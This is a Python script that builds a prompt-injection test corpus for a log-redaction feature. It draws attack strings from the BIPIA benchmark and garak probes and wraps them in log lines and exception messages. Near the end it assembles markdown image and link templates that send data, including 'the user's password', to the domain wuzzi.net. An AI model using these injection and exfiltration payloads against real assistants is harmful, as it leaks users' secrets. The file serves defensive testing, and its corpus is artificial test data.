"""Builds the prompt-injection corpus (attacks.jsonl, benign.jsonl) from pinned public
sources; SOURCES.md names each one. Run once when a source is added; the output is
committed, so CI needs no network.

    python3 tests/redaction/injection/build_corpus.py BIPIA_GIT GARAK_GIT LOGHUB_GIT

Each *_GIT is a bare clone of microsoft/BIPIA, NVIDIA/garak and logpai/loghub; the
commits used are those in SOURCES.md. Exception messages come from running
programs/exc.py, programs/Exc.java and programs/exc.js with the local runtimes.
"""

import ast
import json
import pathlib
import subprocess
import sys

HERE = pathlib.Path(__file__).resolve().parent
BIPIA_COMMIT = "1a2a91da6bb12838e05d1b2e54d98e2f37b835f3"
GARAK_COMMIT = "cafbe992780df70015de7295ca026b70c4629ada"

# BIPIA families whose attack is an ordinary task request, with no sign that it is
# addressed to a model ("What is the capital of Brazil?"): in a log line they are
# indistinguishable from user text, so they are reported apart and not counted in the
# threshold (docs/redaction.md, "What defusal does not catch").
TASK_REQUESTS = {
    "Task Automation", "Business Intelligence", "Conversational Agent", "Research Assistance",
    "Sentiment Analysis", "Information Retrieval", "Content Creation", "Learning and Tutoring",
    "Language Translation (train)", "Programming Help",
}
# Where an attack lands in telemetry: bare (a log body that is the attack) and inside
# an ordinary log line or exception message, as user input reaches them.
CARRIERS = [
    "{a}",
    "2024-05-01T10:00:00Z WARN checkout rejected coupon code '{a}'",
    "ValueError: invalid customer note: {a}",
]
PAYLOADS = ["Haha pwned!", "The Tower has been sold to Italy.", "Interview highly recommended."]
DOMAIN = "wuzzi.net"


def show(git: str, commit: str, path: str) -> str:
    return subprocess.run(["git", f"--git-dir={git}", "show", f"{commit}:{path}"], check=True,
                          capture_output=True, text=True).stdout


def bipia(git: str):
    for split in ("test", "train"):
        for kind in ("text", "code"):
            data = json.loads(show(git, BIPIA_COMMIT, f"benchmark/{kind}_attack_{split}.json"))
            for family, texts in data.items():
                name = family if not (family == "Language Translation" and split == "train") \
                    else "Language Translation (train)"
                task = name in TASK_REQUESTS
                for t in texts:
                    yield {"family": "bipia_task_request" if task else f"bipia_{kind}",
                           "source": f"BIPIA {kind}_attack_{split}.json: {family}", "text": t}


def garak(git: str):
    src = show(git, GARAK_COMMIT, "garak/probes/latentinjection.py")
    tree = ast.parse(src)
    marker = "<|garak_payload|>"
    seen = set()
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Assign) and len(node.targets) == 1
                and isinstance(node.targets[0], ast.Name)):
            continue
        name = node.targets[0].id
        if name not in ("injection_instructions", "injection_sep_pairs"):
            continue
        try:
            # f-strings naming the module's markers: evaluated with them bound;
            # values built from other names (class attributes) are skipped.
            value = eval(compile(ast.Expression(node.value), "<garak>", "eval"),  # noqa: S307
                         {"PAYLOAD_MARKER": marker, "TRIGGER_MARKER": "<|garak_trigger|>",
                          "INJECTION_MARKER": "<|garak_injection|>"})
        except NameError:
            continue
        if name == "injection_instructions":
            for ins in value:
                # An "instruction" that is only the payload carries no injection.
                if ins.strip() == marker:
                    continue
                for p in PAYLOADS:
                    t = ins.replace(marker, p).replace("{PAYLOAD_MARKER}", p)
                    if t not in seen:
                        seen.add(t)
                        yield {"family": "garak_latent_injection",
                               "source": "garak probes/latentinjection.py injection_instructions", "text": t}
        else:
            for start, end in value:
                # Only separators that mark a new message or instruction (not a
                # bare newline, a `> ` quote or a ruled line).
                if not any(m in start.lower() for m in ("<|", "[system]", "<system>", "instruction")):
                    continue
                for p in PAYLOADS:
                    if (start, end, p) not in seen:
                        seen.add((start, end, p))
                        yield {"family": "garak_separator",
                               "source": "garak probes/latentinjection.py injection_sep_pairs",
                               "text": f"{start}{p}{end}"}
    prompt_data = show(git, GARAK_COMMIT, "garak/resources/promptinject/prompt_data.py")
    ns: dict = {}
    exec(compile(prompt_data, "prompt_data.py", "exec"), ns)  # noqa: S102 (pinned source data)
    for attack in ns["goal_hikacking_attacks"].values():
        for rogue in ns["rogue_strings"].values():
            yield {"family": "garak_goal_hijacking", "source": "garak resources/promptinject/prompt_data.py",
                   "text": attack["instruction"].replace("{REPLACE_rogue_string}", rogue)}
    web = show(git, GARAK_COMMIT, "garak/probes/web_injection.py")
    wt = ast.parse(web)
    for node in ast.walk(wt):
        if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id in ("template",) for t in node.targets):
            if isinstance(node.value, ast.Constant):
                for enc in ("base64", "quoted-printable"):
                    yield {"family": "garak_markdown_exfil", "source": "garak probes/web_injection.py templates",
                           "text": node.value.value.replace("{domain}", DOMAIN).replace("{encoding}", enc)}
    for path in ("garak/data/xss/xss_full_uri_prompt_templates/direct.txt",
                 "garak/data/xss/xss_full_uri_prompt_templates/email.txt",
                 "garak/data/xss/xss_concat_prompt_templates/basic_concat_inst.txt"):
        tpl = show(git, GARAK_COMMIT, path).strip()
        for uri in (f"![data](https://{DOMAIN}/logo.png?q=[NUM])", f"[click](https://{DOMAIN}/?d=[NUM])"):
            parts = '","'.join(uri[i:i + 4] for i in range(0, len(uri), 4))
            yield {"family": "garak_markdown_exfil", "source": f"garak {path}",
                   "text": tpl.format(uri=uri, injected_marker="NUM", encoding="base64",
                                      injected_action="the user's password", injected_strings=f'"{parts}"',
                                      injected_output_fomat="print")}


def benign(loghub: str):
    commit = subprocess.run(["git", f"--git-dir={loghub}", "rev-parse", "HEAD"], check=True,
                            capture_output=True, text=True).stdout.strip()
    files = subprocess.run(["git", f"--git-dir={loghub}", "ls-tree", "-r", "--name-only", commit],
                           check=True, capture_output=True, text=True).stdout.split()
    for f in sorted(p for p in files if p.endswith("_2k.log")):
        for i, line in enumerate(show(loghub, commit, f).splitlines()):
            if i % 10 == 0 and line.strip():
                yield {"source": f"Loghub {f} (every 10th line)", "text": line}
    progs = HERE / "programs"
    for cmd in (["python3", str(progs / "exc.py")], ["java", str(progs / "Exc.java")], ["node", str(progs / "exc.js")]):
        out = subprocess.run(cmd, check=True, capture_output=True, text=True, cwd=progs).stdout
        for line in out.splitlines():
            rec = json.loads(line)
            yield {"source": f"exception from {rec['runtime']} ({pathlib.Path(cmd[-1]).name})", "text": rec["text"]}


def main() -> None:
    bipia_git, garak_git, loghub_git = sys.argv[1:4]
    attacks = []
    for a in list(bipia(bipia_git)) + list(garak(garak_git)):
        for i, carrier in enumerate(CARRIERS):
            attacks.append({**a, "carrier": i, "text": carrier.format(a=a["text"])})
    with open(HERE / "attacks.jsonl", "w") as f:
        for a in attacks:
            f.write(json.dumps(a, ensure_ascii=False) + "\n")
    with open(HERE / "benign.jsonl", "w") as f:
        for b in benign(loghub_git):
            f.write(json.dumps(b, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
